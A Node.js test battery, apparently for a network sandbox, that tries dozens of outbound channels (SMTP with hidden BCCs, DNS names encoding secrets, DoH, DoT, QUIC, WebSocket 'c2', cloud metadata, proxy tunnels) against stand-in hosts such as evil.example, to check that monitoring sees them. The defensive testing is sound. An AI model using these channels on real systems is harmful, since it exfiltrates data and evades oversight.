// The protocol battery: ways a program can reach out, each with what its walls must have seen of it.
// Run inside the room, it prints PASS or FAIL for each; `verify.cjs` then looks for every `sees` among the events of the run.
// A case that must not succeed (`refused`) passes when it fails.
'use strict'
const child = require('node:child_process')
const dgram = require('node:dgram')
const dns = require('node:dns')
const http = require('node:http')
const http2 = require('node:http2')
const https = require('node:https')
const net = require('node:net')
const tls = require('node:tls')

const once = (emitter, event) => new Promise((resolve, reject) => { emitter.once(event, resolve); emitter.once('error', reject) })
const program = (name, ...args) => child.execFileSync(name, args, { stdio: ['ignore', 'pipe', 'pipe'], timeout: 15000 }).toString().trim()
const python = code => child.execFileSync('/usr/bin/python3', ['-c', code], { stdio: ['ignore', 'pipe', 'pipe'], timeout: 15000, env: { ...process.env, PYTHONPATH: `${__dirname}/pypi` } }).toString().trim()
const mail = async (options, message) => {
  const sent = await require('nodemailer').createTransport(options).sendMail({ from: 'app@corp.example', to: 'you@corp.example', subject: 'hello', text: 'hi', ...message })
  return sent.response
}
const datagram = async (family, port, address, text, setup = () => {}) => {
  const socket = dgram.createSocket(family)
  await new Promise(resolve => socket.bind(resolve))
  setup(socket)
  await new Promise((resolve, reject) => socket.send(text, port, address, err => err ? reject(err) : resolve()))
  socket.close()
}
// Speaks line by line: waits for an answer to each.
const dialogue = async (port, host, lines) => {
  const socket = net.connect(port, host)
  socket.setEncoding('latin1')
  let seen = ''
  socket.on('data', data => { seen += data })
  await once(socket, 'data')
  for (const line of lines) {
    socket.write(line)
    await once(socket, 'data')
  }
  socket.end()
  return seen.trim().split('\r\n').pop()
}
const smtp = { from: '<app@corp.example>', to: ['<raw@corp.example>'] }

exports.cases = [
  { name: 'the postmark client', run: async () => (await new (require('postmark').ServerClient)('0e3b6f0a-6a51-4f6c-9d5e-7c1f6b0a2d11').sendEmail({ From: 'app@corp.example', To: 'you@corp.example', Bcc: 'copy@collector.example', Subject: 's', TextBody: 't' })) && 'sent', tolerant: true, sees: [['http', 'api.postmarkapp.com/email'], ['http', 'copy@collector.example']] },
  { name: 'nodemailer with STARTTLS on 587', run: () => mail({ host: 'smtp587.corp.example', port: 587, requireTLS: true }, { bcc: 'hidden587@collector.example' }), sees: [['smtp', 'hidden587@collector.example']] },
  { name: 'nodemailer with implicit TLS on 465', run: () => mail({ host: 'smtp465.corp.example', port: 465, secure: true }, { bcc: 'hidden465@collector.example' }), sees: [['smtp', 'hidden465@collector.example'], ['tls', 'smtp465.corp.example']] },
  { name: 'nodemailer in plain on 25 at an address', run: () => mail({ host: '203.0.113.25', port: 25, ignoreTLS: true }, { to: 'plain25@corp.example' }), sees: [['smtp', 'plain25@corp.example']] },
  { name: 'SMTP on a port of its own', run: () => mail({ host: 'odd.corp.example', port: 4000, ignoreTLS: true }, { to: 'odd4000@corp.example' }), sees: [['smtp', 'odd4000@corp.example']] },
  { name: 'SMTP with wrong credentials', refused: true, run: () => mail({ host: 'auth.corp.example', port: 587, auth: { user: 'stranger', pass: 'wrong-secret' } }), sees: [['smtp_auth', 'wrong-secret']] },
  { name: 'SMTP by chunks', run: () => dialogue(2525, 'chunks.corp.example', ['EHLO me.example\r\n', `MAIL FROM:${smtp.from} BODY=BINARYMIME\r\n`, 'RCPT TO:<chunked@corp.example>\r\n', 'BDAT 16\r\nSubject: a\r\n\r\nhi', 'BDAT 0 LAST\r\n', 'QUIT\r\n']), sees: [['smtp', 'chunked@corp.example']] },
  { name: 'SMTP in one breath', run: () => dialogue(25, 'pipelined.corp.example', ['EHLO me.example\r\n', `MAIL FROM:${smtp.from}\r\nRCPT TO:<pipelined@corp.example> NOTIFY=SUCCESS\r\nDATA\r\n`, 'Subject: b\r\n\r\nhi\r\n.\r\nQUIT\r\n']), sees: [['smtp', 'pipelined@corp.example']] },
  { name: "Python's smtplib", run: () => python('import smtplib; s = smtplib.SMTP("py.corp.example", 587); s.starttls(); s.sendmail("app@corp.example", ["python@corp.example"], "Subject: c\\r\\n\\r\\nhi"); s.quit(); print("sent")'), sees: [['smtp', 'python@corp.example']] },
  { name: 'HTTP/2', run: async () => { const session = http2.connect('https://h2.api.example'); const request = session.request({ ':method': 'POST', ':path': '/h2' }); request.end('h2-body'); const head = await once(request, 'response'); session.close(); return head[':status'] }, sees: [['http', 'h2-body'], ['http', 'HTTP/2']] },
  { name: 'HTTP/2 without being asked', run: async () => { const session = http2.connect('http://prior.api.example'); const request = session.request({ ':method': 'POST', ':path': '/prior' }); request.end('prior-body'); const head = await once(request, 'response'); session.close(); return head[':status'] }, sees: [['http', 'prior-body']] },
  { name: 'undici with HTTP/2', run: async () => { const { Agent, fetch } = require('undici'); return (await fetch('https://undici.api.example/u', { dispatcher: new Agent({ allowH2: true }) })).status }, sees: [['http', 'undici.api.example/u']] },
  { name: 'axios', run: async () => (await require('axios').post('https://axios.api.example/a', { secret: 'axios-body' }, { validateStatus: () => true })).status, sees: [['http', 'axios-body']] },
  { name: 'HTTP in plain on 8080', run: async () => (await fetch('http://plain.api.example:8080/p?q=1')).status, sees: [['http', 'plain.api.example:8080/p?q=1']] },
  { name: 'bytes to an address', run: async () => { const socket = net.connect(4444, '198.51.100.2'); await once(socket, 'connect'); socket.end('raw-secret'); socket.resume(); await once(socket, 'close'); return 'closed' }, sees: [['raw', 'raw-secret']] },
  { name: 'HTTPS to an address', run: async () => { const request = https.get('https://198.51.100.3/by-address'); return (await once(request, 'response')).statusCode }, sees: [['http', '198.51.100.3/by-address']] },
  { name: 'a TXT question', run: async () => String(await dns.promises.resolveTxt('txt.evil.example')), sees: [['dns', 'txt.evil.example']] },
  { name: 'a name that carries a secret', run: async () => (await dns.promises.lookup('7365637265742d746f6b656e.x.evil.example')).address, sees: [['dns', '7365637265742d746f6b656e.x.evil.example']] },
  { name: 'a name that cannot be', refused: true, run: () => dns.promises.lookup('control.invalid'), sees: [['dns', 'control.invalid']] },
  { name: 'a resolver of its own', run: async () => { const resolver = new dns.promises.Resolver(); resolver.setServers(['198.51.100.53']); return String(await resolver.resolve4('own.evil.example')) }, sees: [['dns', '198.51.100.53']] },
  { name: 'DNS over HTTPS', run: async () => { const question = Buffer.from('12340100000100000000000003646f68046576696c076578616d706c650000010001', 'hex'); const answer = await fetch('https://resolver.example/dns-query', { method: 'POST', headers: { 'content-type': 'application/dns-message', accept: 'application/dns-message' }, body: question }); return (await answer.arrayBuffer()).byteLength }, sees: [['dns', 'doh.evil.example']] },
  { name: 'DNS over HTTPS as JSON', run: async () => (await (await fetch('https://resolver.example/resolve?name=dohjson.evil.example&type=A', { headers: { accept: 'application/dns-json' } })).json()).Status, sees: [['dns', 'dohjson.evil.example']] },
  { name: 'DNS over TLS', run: async () => { const socket = tls.connect({ port: 853, host: 'resolver.example', servername: 'resolver.example' }); await once(socket, 'secureConnect'); const question = Buffer.from('12340100000100000000000003646f74046576696c076578616d706c650000010001', 'hex'); socket.write(Buffer.concat([Buffer.from([0, question.length]), question])); const answer = await once(socket, 'data'); socket.destroy(); return answer.length }, sees: [['dns', 'dot.evil.example']] },
  { name: 'a datagram', run: () => datagram('udp4', 9999, '198.51.100.8', 'udp4-secret'), sees: [['datagram', 'udp4-secret']] },
  { name: 'a datagram of IPv6', run: () => datagram('udp6', 9998, '2001:db8::7', 'udp6-secret'), sees: [['datagram', 'udp6-secret']] },
  { name: 'QUIC', run: () => datagram('udp4', 443, '198.51.100.9', Buffer.concat([Buffer.from('c300000001088394c8f03e5157080000449e', 'hex'), Buffer.alloc(1182, 7)])), sees: [['datagram', '"protocol":"quic"']] },
  { name: 'a broadcast', run: () => datagram('udp4', 9997, '255.255.255.255', 'broadcast-secret', socket => socket.setBroadcast(true)), sees: [['datagram', 'broadcast-secret']] },
  { name: 'a multicast', run: () => datagram('udp4', 9996, '239.1.1.1', 'multicast-secret'), sees: [['packet', 'multicast-secret']] },
  { name: 'a multicast of IPv6', run: () => datagram('udp6', 9995, 'ff05::1%eth0', 'multicast6-secret'), sees: [['packet', 'multicast6-secret']] },
  { name: 'a WebSocket', run: async () => { const socket = new (require('ws'))('wss://ws.evil.example/c2'); await once(socket, 'open'); socket.send('ws-secret'); socket.close(); await once(socket, 'close'); return 'closed' }, sees: [['websocket', 'ws-secret']] },
  { name: 'a client that knows its server by its fingerprint', refused: true, run: async () => (await once(https.get({ host: 'pinned.example', path: '/', checkServerIdentity: () => new Error('not the one I know') }), 'response')).statusCode, sees: [['connect', 'pinned.example']] },
  { name: 'a client with roots of its own', refused: true, run: async () => (await once(https.get({ host: 'ownroots.example', path: '/', ca: [tls.rootCertificates[0]] }), 'response')).statusCode, sees: [['opaque', 'ownroots.example']] },
  { name: 'a tunnel through a proxy', run: async () => { const request = http.request({ host: 'proxy.example', port: 3128, method: 'CONNECT', path: 'inner.example:443' }).end(); const socket = await new Promise((resolve, reject) => { request.once('connect', (_, it) => resolve(it)); request.once('error', reject) }); const inside = https.get({ socket, agent: false, host: 'inner.example', path: '/through' }); return (await once(inside, 'response')).statusCode }, sees: [['tunnel', 'inner.example:443'], ['http', 'inner.example/through']] },
  { name: "a cloud's metadata", run: async () => (await fetch('http://169.254.169.254/latest/meta-data/iam/')).status, sees: [['http', '169.254.169.254/latest/meta-data/iam/']] },
  { name: 'curl', run: () => program('curl', '-sS', '-m', '9', '-o', '/dev/null', '-w', '%{http_code} %{http_version}', 'https://curl.api.example/c'), sees: [['http', 'curl.api.example/c']] },
  { name: "Python's urllib", run: () => python('import urllib.request as u; print(u.urlopen("https://urllib.api.example/u").status)'), tolerant: true, sees: [['http', 'urllib.api.example/u']] },
  { name: 'openssl', run: () => program('sh', '-c', 'echo | openssl s_client -connect openssl.example:443 -servername openssl.example 2>&1 | grep -m1 "Verif"'), sees: [['tls', 'openssl.example']] },
  { name: 'a server of its own at 127.0.0.1', run: async () => { const server = http.createServer((_, answer) => answer.end('mine')).listen(0, '127.0.0.1'); await once(server, 'listening'); const text = await (await fetch(`http://127.0.0.1:${server.address().port}`)).text(); server.close(); if (text !== 'mine') throw new Error('somebody else answered'); return text }, sees: [] },
  { name: 'a neighbour on its own network', run: async () => (await fetch('http://10.0.2.99/neighbour')).status, sees: [['http', '10.0.2.99/neighbour']] },
  // From npm, the Python Package Index and Debian. What `needs` names is installed by `run`, which says what could not be.
  { name: 'got', run: async () => (await (await import('got')).default.post('https://got.api.example/g', { body: 'got-body', throwHttpErrors: false, retry: { limit: 0 } })).statusCode, sees: [['http', 'got-body'], ['http', 'got.api.example/g']] },
  { name: 'got with HTTP/2', run: async () => { const answer = await (await import('got')).default('https://got2.api.example/g', { http2: true, throwHttpErrors: false, retry: { limit: 0 } }); return `HTTP/${answer.httpVersion} ${answer.statusCode}` }, sees: [['http', 'got2.api.example/g']] },
  { name: 'requests', needs: 'pypi', run: () => python('import requests; print(requests.post("https://requests.api.example/r", data="requests-body").status_code)'), sees: [['http', 'requests-body'], ['http', 'requests.api.example/r']] },
  { name: 'httpx with HTTP/2', needs: 'pypi', run: () => { const said = python('import httpx; a = httpx.Client(http2=True).post("https://httpx.api.example/h", content="httpx-body"); print(a.http_version, a.status_code)'); if (!said.startsWith('HTTP/2 ')) throw new Error(said); return said }, sees: [['http', 'httpx-body'], ['http', 'httpx.api.example/h']] },
  { name: 'aiohttp', needs: 'pypi', run: () => python('import aiohttp, asyncio\nasync def main():\n  async with aiohttp.ClientSession() as s:\n    async with s.put("https://aiohttp.api.example/a", data=b"aiohttp-body") as a:\n      print(a.status)\nasyncio.run(main())'), sees: [['http', 'aiohttp-body'], ['http', 'aiohttp.api.example/a']] },
  { name: 'aiosmtplib with STARTTLS', needs: 'pypi', run: () => python('import aiosmtplib, asyncio\nfrom email.message import EmailMessage\nm = EmailMessage(); m["From"] = "app@corp.example"; m["To"] = "you@corp.example"; m["Subject"] = "s"; m.set_content("hi")\nprint(asyncio.run(aiosmtplib.send(m, recipients=["aio@collector.example"], hostname="aio.corp.example", port=587, start_tls=True))[1])'), sees: [['smtp', 'aio@collector.example']] },
  { name: 'aiosmtplib with implicit TLS', needs: 'pypi', run: () => python('import aiosmtplib, asyncio\nprint(asyncio.run(aiosmtplib.send("Subject: s\\n\\nhi", sender="app@corp.example", recipients=["aio465@collector.example"], hostname="aio465.corp.example", port=465, use_tls=True))[1])'), sees: [['smtp', 'aio465@collector.example']] },
  { name: 'dnspython over UDP, TCP and TLS', needs: 'pypi', run: () => python('import dns.message, dns.query\nfor way, name in ((dns.query.udp, "dpudp"), (dns.query.tcp, "dptcp")):\n  way(dns.message.make_query(name + ".evil.example", "TXT"), "198.51.100.54", timeout=5)\na = dns.query.tls(dns.message.make_query("dptls.evil.example", "MX"), "198.51.100.54", timeout=5, server_hostname="dot.resolver.example")\nprint(a.rcode())'), sees: [['dns', 'dpudp.evil.example'], ['dns', 'dptcp.evil.example'], ['dns', 'dptls.evil.example']] },
  { name: 'dnspython over HTTPS', needs: 'pypi', run: () => python('import dns.message, dns.query\nprint(dns.query.https(dns.message.make_query("dphttps.evil.example", "A"), "https://doh.resolver.example/dns-query", timeout=5, bootstrap_address="198.51.100.55", http_version=dns.query.HTTPVersion.H2).rcode())'), sees: [['dns', 'dphttps.evil.example']] },
  { name: 'websockets', needs: 'pypi', run: () => python('from websockets.sync.client import connect\nwith connect("wss://websockets.evil.example/p") as s:\n  s.send("py-ws-secret"); s.send(b"\\x00py-ws-bytes")\nprint("closed")'), sees: [['websocket', 'py-ws-secret'], ['websocket', 'py-ws-bytes']] },
  { name: 'swaks with STARTTLS', needs: 'swaks', run: () => program('swaks', '--silent', '2', '--server', 'swaks.corp.example', '--port', '587', '--tls', '--from', 'app@corp.example', '--to', 'swaks@collector.example', '--body', 'hi') || 'sent', sees: [['smtp', 'swaks@collector.example']] },
  { name: 'swaks with a pipeline and credentials', refused: true, needs: 'swaks', run: () => program('swaks', '--server', 'swaksauth.corp.example', '--port', '25', '--pipeline', '--auth', 'PLAIN', '--auth-user', 'swaks-user', '--auth-password', 'swaks-secret', '--from', 'app@corp.example', '--to', 'swaks@corp.example'), sees: [['smtp_auth', 'swaks-secret']] },
  { name: 'dig at a server of its own', needs: 'dig', run: () => program('dig', '@198.51.100.56', '+short', '+tries=1', 'dig.evil.example', 'TXT') || 'answered', sees: [['dns', 'dig.evil.example'], ['dns', '198.51.100.56']] },
  { name: 'dig over TCP', needs: 'dig', run: () => program('dig', '+tcp', '+tries=1', 'digtcp.evil.example', 'MX').match(/status: \w+/)[0], sees: [['dns', 'digtcp.evil.example']] },
  { name: 'dig over TLS', needs: 'dig', run: () => program('dig', '@198.51.100.57', '+tls', '+tries=1', 'digtls.evil.example', 'A').match(/status: \w+/)[0], sees: [['dns', 'digtls.evil.example']] },
  { name: 'dig over HTTPS', needs: 'dig', run: () => program('dig', '@198.51.100.58', '+https', '+tries=1', 'dighttps.evil.example', 'A').match(/status: \w+/)[0], sees: [['dns', 'dighttps.evil.example']] },
  { name: 'wget', needs: 'wget', run: () => program('wget', '-q', '-t', '1', '-T', '9', '-O', '/dev/null', '--post-data', 'wget-body', '--content-on-error', '--server-response', 'https://wget.api.example/w') || 'answered', tolerant: true, sees: [['http', 'wget-body'], ['http', 'wget.api.example/w']] },
  { name: 'msmtp', needs: 'msmtp', run: () => child.execFileSync('msmtp', ['--host=msmtp.corp.example', '--port=587', '--tls=on', '--tls-starttls=on', '--auth=off', '--from=app@corp.example', 'msmtp@collector.example'], { input: 'Subject: m\n\nhi\n', timeout: 15000 }).toString() || 'sent', sees: [['smtp', 'msmtp@collector.example']] },
]

// What this machine lacks.
exports.without = (process.env.WITHOUT || '').split(',')

const patience = (work, seconds) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error(`nothing after ${seconds} s`)), seconds * 1000))])

const main = async () => {
  for (const it of exports.cases) {
    let word, detail
    if (exports.without.includes(it.needs)) { console.log('SKIP', it.name); continue }
    try {
      detail = await patience(it.run(), 12)
      word = it.refused ? 'FAIL' : 'PASS'
    } catch (err) {
      detail = `${err.message || err} ${err.code || ''}`
      word = it.refused || it.tolerant ? 'PASS' : 'FAIL'
    }
    console.log(word, it.name, '-', String(detail).split('\n')[0].slice(0, 100))
  }
  process.exit(0)
}
if (require.main === module) main()
